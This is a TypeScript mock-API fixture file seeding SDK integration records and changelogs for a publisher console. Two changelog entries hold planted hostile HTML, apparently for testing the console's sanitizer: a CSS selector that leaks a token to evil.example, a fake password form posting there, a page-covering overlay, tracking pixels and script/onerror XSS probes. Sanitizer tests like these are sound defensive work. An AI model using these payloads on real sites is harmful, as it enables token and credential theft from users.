import { http } from 'msw';
import { appKeyOf } from '../../users/appKey';
import { API, ok, paginate } from '../../respond';
import { signedIn } from '../../calls/signedIn';
import { table } from '../../store/db';

interface MockIntegration {
  integration_id: number;
  integration_name: string;
  integration_method: 'Report' | 'SDK';
  integration_type: 'Content-SSP' | 'App-SSP';
  update_time: string;
  document_link: string;
  document_name: string;
  download_link: string;
  download_name: string;
  changelogs: { log_id: number; version: string; update_time: string; log: string }[];
}

const DOCS = 'https://docs.publisher-console.example';

const integrations = () =>
  table<MockIntegration>('integrations', () => [
    {
      integration_id: 1,
      integration_name: 'Reporting API',
      integration_method: 'Report',
      integration_type: 'Content-SSP',
      update_time: '2026-09-14 10:00:00',
      document_link: `${DOCS}/reporting-api`,
      document_name: 'Reporting API guide',
      download_link: `${DOCS}/downloads/reporting-api-postman.json`,
      download_name: 'Postman collection',
      changelogs: [
        {
          log_id: 11,
          version: 'v2.1.0',
          update_time: '2026-09-14 10:00:00',
          log: '### Added\n- `dimensions` accepts **Channel**.\n- New metric `ImpressionRate`.\n\n### Fixed\n- Totals now match the rows when a country filter is set.',
        },
        {
          log_id: 10,
          version: 'v2.0.0',
          update_time: '2026-05-02 09:30:00',
          log: '### Changed\n- Moved to `/gamebridge/v2`.\n- Send the token in the `Authorization` header.\n\n```http\nPOST /gamebridge/v2/ssp_publisher/report\nAuthorization: <token>\n```',
        },
        {
          log_id: 9,
          version: 'v1.9.0',
          update_time: '2026-01-12 09:00:00',
          // Hostile server HTML planted in the demo data: the console's sanitizer must leave none
          // of it working (no style read of the token, no form, no overlay, no outside image).
          log: [
            '### Security',
            'This entry carries planted hostile HTML that the console renders harmless. [Jump to the fixes](#fixed)',
            '',
            '<style>input[value^="ak_"]{background-image:url(https://evil.example/leak?token=ak_)} .ant-layout{display:none}</style>',
            '',
            '<div style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff;font-size:40px">Planted overlay</div>',
            '',
            '<form action="https://evil.example/steal" method="post"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form>',
            '',
            'Pixels: ![tracking pixel](https://evil.example/pixel.png) <img src="https://evil.example/raw.png" alt="raw pixel">',
            '',
            '### Fixed',
            '- Report dates follow the chosen time zone.',
          ].join('\n'),
        },
      ],
    },
    {
      integration_id: 2,
      integration_name: 'Web SDK',
      integration_method: 'SDK',
      integration_type: 'Content-SSP',
      update_time: '2026-10-03 16:20:00',
      document_link: `${DOCS}/web-sdk`,
      document_name: 'Web SDK integration',
      download_link: `${DOCS}/downloads/web-sdk-3.4.2.zip`,
      download_name: 'web-sdk-3.4.2.zip',
      changelogs: [
        {
          log_id: 21,
          version: 'v3.4.2',
          update_time: '2026-10-03 16:20:00',
          // Raw HTML in a changelog is sanitized by the console: the script and handler never run.
          log: '- Lazy loading for below-the-fold zones.\n- Smaller bundle (<b>-18%</b>).\n\n<img src="x" alt="" onerror="alert(1)"><script>alert(2)</script>',
        },
        {
          log_id: 20,
          version: 'v3.4.0',
          update_time: '2026-07-21 11:00:00',
          log: '- Floating icon zones (ad type 7) support `space` and `background`.',
        },
      ],
    },
    {
      integration_id: 3,
      integration_name: 'Android SDK',
      integration_method: 'SDK',
      integration_type: 'App-SSP',
      update_time: '2026-08-30 08:00:00',
      document_link: `${DOCS}/android-sdk`,
      document_name: 'Android SDK integration',
      download_link: `${DOCS}/downloads/android-sdk-5.2.0.aar`,
      download_name: 'android-sdk-5.2.0.aar',
      changelogs: [
        {
          log_id: 31,
          version: 'v5.2.0',
          update_time: '2026-08-30 08:00:00',
          log: '- New ad format `reward_int`.\n- Requires Android 7.0 or later.',
        },
      ],
    },
    {
      integration_id: 4,
      integration_name: 'iOS SDK',
      integration_method: 'SDK',
      integration_type: 'App-SSP',
      update_time: '2026-09-05 08:00:00',
      document_link: `${DOCS}/ios-sdk`,
      document_name: 'iOS SDK integration',
      download_link: `${DOCS}/downloads/ios-sdk-5.1.1.zip`,
      download_name: 'ios-sdk-5.1.1.zip',
      changelogs: [
        {
          log_id: 41,
          version: 'v5.1.1',
          update_time: '2026-09-05 08:00:00',
          log: '- Fixes a crash on iOS 15 when an interstitial closes.',
        },
      ],
    },
  ]);

export const integrationCalls = [
  http.get(
    `${API}/ssp_publisher/openapi/integration/info`,
    signedIn(({ query }) => {
      const type = query.get('integration_type');
      const rows = integrations().filter((item) => !type || item.integration_type === type);
      return ok(paginate(rows, query.get('page_index'), query.get('page_size')));
    }),
  ),
  http.get(
    `${API}/ssp_publisher/openapi/app_key`,
    signedIn(({ user }) => ok({ app_key: appKeyOf(user) })),
  ),
];
